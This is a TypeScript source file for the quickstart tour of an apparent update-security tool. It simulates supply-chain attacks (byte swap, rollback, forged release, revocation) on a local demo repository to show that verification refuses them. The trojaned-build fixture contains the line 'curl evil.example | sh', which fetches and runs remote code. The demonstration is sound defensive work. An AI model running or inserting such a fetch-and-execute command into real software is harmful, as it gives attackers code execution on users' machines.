/**
 * The quickstart (`npm start`, `bulwark quickstart`): a narrated tour on production
 * defaults, no external services. A vendor repository is created with a 2-of-3 root whose
 * keys are then kept apart (offline); every root change is signed there with `repo export`,
 * `sign` and `repo import`. demo-app 1.0.0 is published and served on 127.0.0.1, endpoints
 * (each with its agent config, run as `bulwark agent --once`) install it, 1.1.0 goes out as
 * a staged rollout (50 %, then 100 %); then an attacker who controls the update server
 * tries three attacks, the vendor revokes 1.1.0 (the kill switch), the transparency scenes
 * show the release log (every release logged and cosigned by two witnesses; an unlogged
 * release refused, a logged secret one reported by the monitor), and the 3CX scenes show
 * verified builds (three builders, 2 of 3 must agree, one compromised). Ends with a
 * summary table and what to try next; `--keep DIR` leaves the whole world in DIR.
 */
import { cp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import path from "node:path";
import { Writable } from "node:stream";
import { createStaticServer, RepoDir } from "@bulwark/publisher";
import type { Context } from "../command.js";
import { main } from "../main.js";
import { cliPassphrase } from "../publisher-options.js";
import { tarGz } from "./demo-archive.js";
import { Endpoints } from "./endpoints.js";
import { forgeRelease } from "./forged-release.js";
import { type OfflineRootKeys, publishRootChange, takeRootKeysOffline } from "./offline-root.js";
import { stagedRolloutScene } from "./rollout.js";
import { type ReleaseLog, setUpReleaseLog, transparencyScenes } from "./transparency.js";
import { type Expected, type SceneKit, verifiedBuildsScenes } from "./verified-builds.js";
import { SERVE_URL, whatNext } from "./what-next.js";
import { LAYOUT, openWorld } from "./world.js";

interface Scene {
  readonly scene: string;
  readonly expected: Expected;
  readonly actual: string;
  readonly detail: string;
}

/** The scenes a full tour records; fewer means one did not run. */
const SCENES = 14;

/** The passphrase of every key in the tour (printed: a kept world needs it). */
export const PASSPHRASE = "quickstart demo passphrase";

function demoRelease(version: string): Buffer {
  return tarGz({
    VERSION: `${version}\n`,
    "bin/demo-app": `#!/bin/sh\necho "demo-app ${version}"\n`,
    "README.txt": `demo-app ${version}, installed by Bulwark.\n`,
  });
}

/** What the quickstart did: every scene as expected → ok; the world's folder and whether it is kept. */
export interface QuickstartResult {
  readonly ok: boolean;
  readonly scenes: Scene[];
  readonly world: { readonly dir: string; readonly kept: boolean };
}

/**
 * Runs the quickstart, printing as it goes. With `keep`, the world is made in that folder
 * (missing or empty) and left there; otherwise in a temporary folder removed at the end,
 * whatever happened.
 * @throws {CliError} `KEEP_NOT_EMPTY`; any failure to set a scene up.
 */
export async function runQuickstart(ctx: Context, options: { keep?: string } = {}): Promise<QuickstartResult> {
  const out = ctx.out;
  const say = (s = "") => out.line(s);
  const step = (s: string) => say(`\n${out.paint(1, `▸ ${s}`)}`);
  const cmd = (argv: string[]) =>
    say(out.paint(2, `  $ bulwark ${argv.map((a) => (a.includes(" ") ? JSON.stringify(a) : a)).join(" ")}`));
  const world = await openWorld(ctx.cwd, ctx.env, options.keep);
  const work = world.dir;
  const scenes: Scene[] = [];
  const record = (scene: string, expected: Scene["expected"], actual: string, detail: string) => {
    scenes.push({ scene, expected, actual, detail });
    const good = actual === expected;
    say(`  ${good ? out.ok("✔") : out.bad("✘")} ${actual}: ${detail}`);
  };

  // The vendor's and the endpoints' commands run in this process, quietly, in the world.
  const sink = new Writable({ write: (_c, _e, done) => done() });
  const env = { ...ctx.env, BULWARK_PASSPHRASE: PASSPHRASE };
  const invoke = async (argv: string[], unprinted: readonly string[] = []) => {
    cmd(argv);
    let text = "";
    const capture = new Writable({
      write: (c: Buffer, _e, done) => {
        text += c.toString();
        done();
      },
    });
    const code = await main([...argv, ...unprinted, "--quiet"], {
      streams: { stdout: capture, stderr: sink },
      env,
      cwd: work,
    });
    return { code, text };
  };
  const run = async (argv: string[]) => {
    const { code, text } = await invoke(argv, ["--json"]);
    return { code, data: JSON.parse(text) as Record<string, unknown> };
  };
  const bulwark = async (argv: string[]) => {
    const { code, data } = await run(argv);
    if (code !== 0) throw new Error(`bulwark ${argv.join(" ")} failed: ${JSON.stringify(data)}`);
    return data;
  };

  // Paths relative to the world, which is the vendor commands' working directory.
  const repo = LAYOUT.repo;
  const mirror = path.join(work, LAYOUT.cdn);
  const sync = async () => {
    await rm(mirror, { recursive: true, force: true });
    await cp(path.join(work, repo, "public"), mirror, { recursive: true });
  };
  const repoDir = () => RepoDir.open(repo, { passphrase: cliPassphrase({ ...ctx, env }), now: ctx.now, cwd: work });
  let server: Awaited<ReturnType<typeof createStaticServer>> | undefined;
  let releaseLog: ReleaseLog | undefined;
  let endpoints: Endpoints | undefined;
  let finished = false;
  let rootVersion = 1;
  try {
    step("The vendor creates an update repository on production defaults (TUF metadata, signed; keys encrypted)");
    const init = await bulwark(["repo", "init", repo]);
    const rootRole = (init.roles as Record<string, { threshold: number; keys: unknown[] }> | undefined)?.root;
    say(
      `  root is signed by ${rootRole?.threshold ?? "?"} of ${rootRole?.keys?.length ?? "?"} root keys; one key each signs targets, snapshot and timestamp`,
    );
    step("The root keys leave the repository machine: they sign only root changes, offline");
    const offline = { work, say, run, repoDir };
    const rootKeys: OfflineRootKeys = await takeRootKeysOffline(offline);
    const publishRoot = () => publishRootChange(offline, rootKeys, repo);

    step("The vendor sets up a release transparency log and two independent witnesses");
    releaseLog = await setUpReleaseLog({ work, repo, run, say });
    const file10 = path.join("vendor", "demo-app-1.0.0.tar.gz");
    await writeFile(path.join(work, file10), demoRelease("1.0.0"));
    await bulwark(["release", "add", repo, file10, "--name", "demo-app", "--version", "1.0.0"]);
    step("The log policy is a root change: the vendor publishes it (and 1.0.0) with the offline root keys");
    const logged = (await publishRoot()).log as { cosignedBy?: string[] } | undefined;
    say(`  root version 2 requires the log; 1.0.0 is logged, cosigned by ${logged?.cosignedBy?.join(" and ")}`);
    await sync();
    server = await createStaticServer(mirror);
    say(`  the update server (a plain static server, never trusted) listens on ${server.url}`);
    const root = await readFile(path.join(work, repo, "public", "metadata", "1.root.json"));
    endpoints = new Endpoints({ work, root, invoke: (argv) => invoke(argv), say }, server.url);
    const attempt = (name: string) => (endpoints as Endpoints).attempt(name);
    const installed = (name: string) => (endpoints as Endpoints).installed(name);

    step("An endpoint installs demo-app with its agent (verified, unpacked, switched atomically, health-checked)");
    await endpoints.show("endpoint-a");
    const first = await attempt("endpoint-a");
    record(
      "install 1.0.0",
      "accepted",
      first.outcome?.action === "installed" ? "accepted" : "refused",
      first.error ?? `installed ${await installed("endpoint-a")}`,
    );
    await attempt("endpoint-b");

    const kit: SceneKit = {
      work,
      repo,
      step,
      say,
      record,
      run,
      publishRoot,
      sync,
      attempt,
      installed,
      repoDir,
    };
    const oldTimestamp = await readFile(path.join(mirror, "metadata", "timestamp.json"));
    const file11 = path.join("vendor", "demo-app-1.1.0.tar.gz");
    await writeFile(path.join(work, file11), demoRelease("1.1.0"));
    await stagedRolloutScene(kit, endpoints, file11);

    step("endpoint-a checks too, and updates");
    const second = await attempt("endpoint-a");
    record(
      "update to 1.1.0",
      "accepted",
      second.outcome?.action === "installed" ? "accepted" : "refused",
      second.error ?? `installed ${await installed("endpoint-a")}`,
    );

    step("An attacker who controls the update server swaps the 1.1.0 bytes (endpoint-b, still on 1.0.0, checks now)");
    const dir11 = path.join(mirror, "targets", "demo-app", "1.1.0");
    const [name11] = (await readdir(dir11)).filter((f) => f.endsWith(".tar.gz"));
    const genuine = await readFile(path.join(dir11, name11 as string));
    // A trojaned build of the same length: only the signed hashes can tell it apart.
    const trojan = Buffer.alloc(genuine.length);
    tarGz({ VERSION: "1.1.0\n", "bin/demo-app": "#!/bin/sh\ncurl evil.example | sh\n" }).copy(trojan);
    await writeFile(path.join(dir11, name11 as string), trojan);
    const swapped = await attempt("endpoint-b");
    record(
      "swapped 1.1.0 bytes",
      "refused",
      swapped.error ? "refused" : "accepted",
      swapped.error ?? `installed ${await installed("endpoint-b")}`,
    );
    await writeFile(path.join(dir11, name11 as string), genuine);

    step("The attacker serves an older snapshot, to hide 1.1.0 (a rollback attack)");
    const currentTimestamp = await readFile(path.join(mirror, "metadata", "timestamp.json"));
    await writeFile(path.join(mirror, "metadata", "timestamp.json"), oldTimestamp);
    const rolled = await attempt("endpoint-a");
    record("older snapshot served", "refused", rolled.error ? "refused" : "accepted", rolled.error ?? "accepted");
    await writeFile(path.join(mirror, "metadata", "timestamp.json"), currentTimestamp);

    step("The attacker serves an unsigned demo-app 9.9.9 (metadata signed with the attacker's own key)");
    const restore = await forgeRelease(mirror, "9.9.9");
    const forged = await attempt("endpoint-a");
    record(
      "unsigned 9.9.9",
      "refused",
      forged.error ? "refused" : forged.outcome?.action === "installed" ? "accepted" : "refused",
      forged.error ?? "not offered",
    );
    await restore();

    step("The vendor revokes 1.1.0 (the kill switch, signed); endpoints on it roll back");
    await bulwark(["release", "revoke", repo, "demo-app@1.1.0", "--reason", "demo: a bad release"]);
    await sync();
    const revoked = await attempt("endpoint-a");
    record(
      "revoke 1.1.0",
      "rolled back",
      revoked.outcome?.action === "rolled-back" ? "rolled back" : (revoked.error ?? revoked.outcome?.action ?? "?"),
      revoked.error ?? `now running ${await installed("endpoint-a")}`,
    );

    await transparencyScenes(kit, releaseLog, { url: server.url, root });
    await verifiedBuildsScenes(kit);
    rootVersion = (await (await repoDir()).load()).root.signed.version;
    finished = true;
  } finally {
    await server?.close();
    await releaseLog?.close();
    // A kept world's endpoints follow `bulwark serve`, the update server being gone.
    if (world.kept) await endpoints?.retarget(SERVE_URL);
    await world.close();
    if (world.kept && !finished) say(`\nThe world is kept in ${world.dir}, as far as the tour got.`);
  }

  step("Summary");
  const width = Math.max(...scenes.map((s) => s.scene.length));
  out.table(
    ["", "scene".padEnd(width), "expected", "result", "why"],
    scenes.map((s) => [
      s.actual === s.expected ? "✔" : "✘",
      s.scene,
      s.expected,
      s.actual,
      s.detail.length > 70 ? `${s.detail.slice(0, 69)}…` : s.detail,
    ]),
  );
  const ok = scenes.length === SCENES && scenes.every((s) => s.actual === s.expected);
  say(
    ok
      ? `\n${out.ok("Every attack was refused or reported, and every update verified.")}`
      : `\n${out.bad("Something did not go as expected.")}`,
  );
  step("What next");
  for (const line of whatNext(world, PASSPHRASE, rootVersion + 1)) say(line ? `  ${line}` : "");
  return { ok, scenes, world: { dir: world.dir, kept: world.kept } };
}
